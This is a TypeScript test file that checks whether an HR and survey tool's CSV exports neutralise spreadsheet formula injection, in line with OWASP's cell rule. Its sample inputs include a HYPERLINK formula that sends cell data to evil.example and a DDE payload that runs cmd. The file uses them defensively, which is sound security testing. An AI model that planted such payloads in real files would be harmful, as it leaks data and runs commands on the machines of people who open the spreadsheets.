import { parse } from 'csv-parse/sync';
import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { neutraliseFormula, restoreFormulaPrefix } from '../../services/core/csv';
import { cli } from '../harness/cli';
import { answerAsHousingOfficers, seedHousingDepartment, sendToHousing } from '../harness/cli-surveys';
import { DateTime } from 'luxon';

/** The attacks from the report, and OWASP's other starting characters. */
const FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A2,"x")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)'];

/** Every cell of a CSV file as a spreadsheet program would see it (no prefix handling of ours). */
async function rawCells(file: string): Promise<string[]> {
  const records: string[][] = parse(await fs.readFile(file, 'utf8'), { bom: true, relax_column_count: true });
  return records.flat();
}

/** No cell may start as a formula; each formula given must appear, prefixed with '. */
async function expectNeutralised(file: string, formulas: string[]): Promise<void> {
  const cells = await rawCells(file);
  expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  for (const f of formulas) expect(cells.some((c) => c.includes(`'${f}`))).toBe(true);
}

describe('the CSV cell rule (OWASP)', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ["'=already quoted", "''=already quoted"],
    ['plain text', 'plain text'],
    ['', ''],
    ['a=b', 'a=b'],
    ["'quoted prose", "'quoted prose"],
  ])('%j is written as %j and read back as it was', (cell, written) => {
    expect(neutraliseFormula(cell)).toBe(written);
    expect(restoreFormulaPrefix(written)).toBe(cell);
  });
});

describe('every CSV export neutralises formulas', () => {
  let work: string;
  let dataDir: string;
  beforeEach(async () => {
    work = await fs.mkdtemp(path.join(os.tmpdir(), 'csv-exports-'));
    dataDir = path.join(work, 'data');
  });

  it('plan export: formula-like actions, evidence, leads and progress come out prefixed, and the export imports back unchanged', async () => {
    const plan = path.join(work, 'plan.csv');
    const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
    await fs.writeFile(
      plan,
      [
        'Learning point,Action,Evidence,Completion date,Lead,Progress,Status',
        `Learning Point 1: Procedures,${quote(FORMULAS[0]!)},${quote(FORMULAS[1]!)},April 2027,${quote(FORMULAS[3]!)},${quote(FORMULAS[2]!)},G-Green`,
        `,Second action,Minutes,May 2027,Val Johnson,On track,G-Green`,
      ].join('\n'),
    );
    const imported = await cli(dataDir, 'plan', 'import', plan);
    expect(imported.out).toMatch(/created 2/);
    const exported = path.join(work, 'board.csv');
    await cli(dataDir, 'plan', 'export', exported);
    await expectNeutralised(exported, FORMULAS);

    const again = await cli(dataDir, 'plan', 'import', exported);
    expect(again.out).toMatch(/created 0, updated 0, unchanged 2/);
  });

  it('training report and overdue list: formula-like names, departments and job titles come out prefixed', async () => {
    const people = path.join(work, 'people.csv');
    await fs.writeFile(
      people,
      ['Employee Number,Full Name,Department,Job Title,Status', `2001,"${FORMULAS[0]!.replace(/"/g, '""')}",@SUM(1+1),-2+3,Active`].join('\n'),
    );
    await cli(dataDir, 'training', 'setup', path.join(__dirname, '..', 'fixtures', 'training', 'setup.json'));
    expect((await cli(dataDir, 'people', 'import', people)).out).toMatch(/created 1/);

    const overdue = path.join(work, 'overdue.csv');
    await cli(dataDir, 'training', 'overdue', '--at', '2026-10-01', '--out', overdue);
    await expectNeutralised(overdue, [FORMULAS[0]!, '@SUM(1+1)', '-2+3']);
    for (const by of ['department', 'role']) {
      const report = path.join(work, `report-${by}.csv`);
      await cli(dataDir, 'training', 'report', '--at', '2026-10-01', '--by', by, '--out', report);
      await expectNeutralised(report, [by === 'department' ? '@SUM(1+1)' : '-2+3']);
    }
  });

  it('survey results: formula-like written answers come out prefixed', async () => {
    await seedHousingDepartment(dataDir, 5);
    const yaml = path.join(work, 'q.yaml');
    await fs.writeFile(yaml, 'key: free-text\nversion: 1\ntitle: Free text\nquestions:\n  - { id: changed, type: text, text: What has changed? }\n');
    await cli(dataDir, 'survey', 'add', yaml);
    // The command line runs on the real clock: the closing date is counted from today's.
    const closes = DateTime.utc().plus({ weeks: 8 }).toISODate()!;
    const { out: sent, campaignId } = await sendToHousing(dataDir, 'free-text', closes);
    expect(sent).toContain('to 5 people');
    await answerAsHousingOfficers(
      dataDir,
      campaignId,
      [...FORMULAS, '\tcmd'].map((answer) => ({ q_changed: answer })),
    );
    const out = path.join(work, 'results.csv');
    await cli(dataDir, 'survey', 'results', campaignId, '--out', out);
    await expectNeutralised(out, FORMULAS);
  });

  it('escalations report: written by the same CSV writer (its cells are figures and fixed labels)', async () => {
    const out = path.join(work, 'review.csv');
    await cli(dataDir, 'escalations', 'report', '--from', '2026-07-01', '--to', '2026-09-30', '--out', out);
    const text = await fs.readFile(out, 'utf8');
    expect(text.startsWith('\ufeffSection,Measure,Value')).toBe(true);
    await expectNeutralised(out, []);
  });
});
